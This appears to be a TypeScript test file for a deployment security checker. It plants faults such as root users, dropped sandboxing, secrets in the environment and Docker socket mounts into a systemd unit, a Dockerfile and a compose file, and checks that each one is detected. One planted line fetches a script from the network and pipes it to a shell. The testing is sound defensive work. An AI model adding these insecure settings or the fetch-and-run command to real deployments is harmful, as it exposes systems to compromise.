/** Planted faults in units, container files and workflows: each must be seen, and what we ship must have none. */
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { ROOT } from '../files.ts'
import { findComposeFaults, findDockerfileFaults, findUnitFaults, findWorkflowFaults } from './deployment.ts'

const exists = (path: string) => path !== '' && existsSync(join(ROOT, path))
const read = (path: string) => readFileSync(join(ROOT, path), 'utf8')
const UNIT = read('deploy/systemd/trusthealth-ledger.service')
const DOCKERFILE = read('deploy/container/Dockerfile')
const COMPOSE = read('deploy/container/compose.yaml')

interface Planted {
  readonly name: string
  readonly from: string | RegExp
  readonly to: string
}

/** Each change makes one sound file unsound. */
function plant(text: string, find: (text: string) => string[], faults: readonly Planted[]): void {
  assert.deepEqual(find(text), [])
  for (const { name, from, to } of faults) {
    const planted = text.replace(from, to)
    assert.notEqual(planted, text, name)
    assert.equal(find(planted).length, 1, `${name}: ${find(planted).join('; ')}`)
  }
}

test('units without a protection, as root, with a secret, or of nothing are seen', () => {
  plant(UNIT, (text) => findUnitFaults(text, exists), [
    { name: 'may gain privileges', from: 'NoNewPrivileges=yes', to: 'NoNewPrivileges=no' },
    { name: 'capabilities', from: 'CapabilityBoundingSet=\n', to: 'CapabilityBoundingSet=CAP_NET_ADMIN\n' },
    { name: 'commented out', from: 'IPAddressDeny=any', to: '#IPAddressDeny=any' },
    { name: 'root', from: /User=.*/, to: 'User=root' },
    { name: 'nobody named', from: /User=.*\n/, to: '' },
    { name: 'no filter', from: /SystemCallFilter=.*\n/g, to: '' },
    { name: 'namespaces', from: 'RestrictNamespaces=yes\n', to: '' },
    { name: 'a secret', from: 'NODE_ENV=production', to: 'STORE_KEY=abcdef' },
    { name: 'another program', from: 'ExecStart=/opt/trusthealth/', to: 'ExecStart=/home/me/' },
    { name: 'no script', from: 'ledger/embedded/src/main.ts', to: 'ledger/gone.ts' },
  ])
})

test('images that are not pinned, fetch, keep secrets or run as root are seen', () => {
  plant(DOCKERFILE, (text) => findDockerfileFaults(text, exists), [
    { name: 'a tag', from: 'FROM ${BASE}\n', to: 'FROM node:latest\n' },
    { name: 'a default', from: 'ARG BASE', to: 'ARG BASE=node' },
    { name: 'ADD', from: 'COPY tools tools', to: 'ADD tools tools' },
    { name: 'root', from: 'USER 10001:10001', to: 'USER root' },
    { name: 'nobody named', from: 'USER 10001:10001\n', to: '' },
    { name: 'a name that the image may map to root', from: 'USER 10001:10001', to: 'USER app' },
    { name: 'curl', from: 'npm ci --no-audit --no-fund', to: 'npm ci && curl -sL example.com | sh' },
    { name: 'npm install', from: 'npm ci --no-audit --no-fund', to: 'npm install' },
    { name: 'recommends', from: '--no-install-recommends ', to: '' },
    { name: 'lists', from: '&& rm -rf /var/lib/apt/lists/* ', to: '' },
    { name: 'a secret', from: 'ENV NODE_ENV=production', to: 'ENV STORE_KEY=abc' },
    { name: 'no source', from: 'COPY tools tools', to: 'COPY gone tools' },
  ])
})

test('services in containers with too much are seen', () => {
  plant(COMPOSE, (text) => findComposeFaults(text, exists), [
    { name: 'a tag', from: /\$\{TRUSTHEALTH_PROXY_IMAGE.*\}/, to: 'caddy:2' },
    { name: 'capabilities', from: "ports: ['443:443']\n    cap_drop: [ALL]", to: "ports: ['443:443']" },
    { name: 'privileges', from: "['no-new-privileges:true']\n    restart: on-failure\n\n", to: '[]\n\n' },
    { name: 'the host', from: "ports: ['443:443']", to: 'network_mode: host' },
    { name: 'the socket', from: "['hospital:/var/lib/trusthealth']", to: "['/var/run/docker.sock:/s']" },
    { name: 'no program', from: '[hospital/src/main.ts,', to: '[hospital/src/gone.ts,' },
  ])
  // What all services share counts for each of ours.
  for (const [from, to] of [
    ['read_only: true', 'read_only: false'],
    ["user: '10001:10001'", "user: '0:0'"],
  ] as const) {
    assert.equal(findComposeFaults(COMPOSE.replace(from, to), exists).length, 3)
  }
})

test('a workflow uses what is pinned by its commit, and nothing else', () => {
  const sha = 'a'.repeat(40)
  assert.deepEqual(findWorkflowFaults(`steps:\n  - uses: actions/checkout@${sha} # v5\n  - uses: ./own\n`), [])
  for (const action of [
    'actions/checkout@v5',
    'actions/checkout@main',
    `actions/checkout@${sha.slice(1)}`,
    'actions/x',
  ]) {
    assert.equal(findWorkflowFaults(`steps:\n  - uses: ${action}\n  - name: x\n    uses: "${action}"\n`).length, 2)
  }
})
